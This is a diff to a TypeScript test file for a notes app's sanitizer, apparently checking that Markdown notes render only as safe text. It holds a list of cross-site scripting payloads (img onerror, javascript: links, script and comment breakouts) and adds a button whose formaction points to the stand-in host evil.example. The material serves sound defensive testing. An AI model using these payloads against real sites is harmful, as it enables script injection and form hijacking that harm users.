@@ -20,7 +20,9 @@ function dangersIn(page: string) {
     const links = ["href", "src", "action", "formAction", "xLinkHref", "srcDoc", "data"].flatMap((name) =>
       properties[name] ? [String(properties[name])] : [],
     );
-    const bad = links.filter((link) => !/^(https?:|mailto:|\/(?!\/)|#)/.test(link));
+    // The bookmark for other sites' pages is the one script that is a link; what it holds is written out here.
+    const bookmark = `javascript:${encodeURIComponent(`void open("${verso.origin}/notes/new?"+`)}`;
+    const bad = links.filter((link) => !link.startsWith(bookmark) && !/^(https?:|mailto:|\/(?!\/)|#)/.test(link));
     const odd = /^(img|svg|math|iframe|object|embed|style|base|audio|video|template)$/.test(tagName) ? [tagName] : [];
     return [...handlers, ...bad, ...odd];
   });
@@ -65,6 +67,8 @@ const PAYLOADS = [
   '[^x"onclick=alert(1)]\n\n[^x"onclick=alert(1)]: note',
   "| <img src=x onerror=alert(1)> |\n|-|\n| [a](javascript:1) |",
   "- [x] <img src=x onerror=alert(1)>",
+  '- [ ] "><button formaction=//evil.example name=task>',
+  '<button name="task" value="0.x.AAAAAAAAAAAAAAAA." class="tick" form="x">x</button>',
   "---\ntitle: </pre><script>alert(1)</script>\n---\ntext",
   "<!-- --!><img src=x onerror=alert(1)> -->",
   "<![CDATA[><img src=x onerror=alert(1)>]]>",
@@ -81,7 +85,13 @@ test.each(PAYLOADS)("S01 S02 S03 S04 S05 S06 a note can't become anything but te
   expect(inside.length).toBeGreaterThan(0);
   expect(dangersIn(page.text)).toEqual([]);
   for (const { tagName, properties } of inside) {
-    expect(["style", "form", "script", "link", "meta", "button", "textarea", "select"]).not.toContain(tagName);
+    expect(["style", "form", "script", "link", "meta", "textarea", "select"]).not.toContain(tagName);
+    if (tagName === "button")
+      expect(properties).toMatchObject({
+        name: "task",
+        role: "checkbox",
+        value: expect.stringMatching(/^\d+\.[xo]\./),
+      });
     expect(properties?.style).toBeUndefined();
     expect(String(properties?.className ?? "")).not.toMatch(/primary|evil|frame/);
     if (tagName === "a" && properties?.href) expect(String(properties.href)).toMatch(/^(https?:\/\/|mailto:|#note-)/);
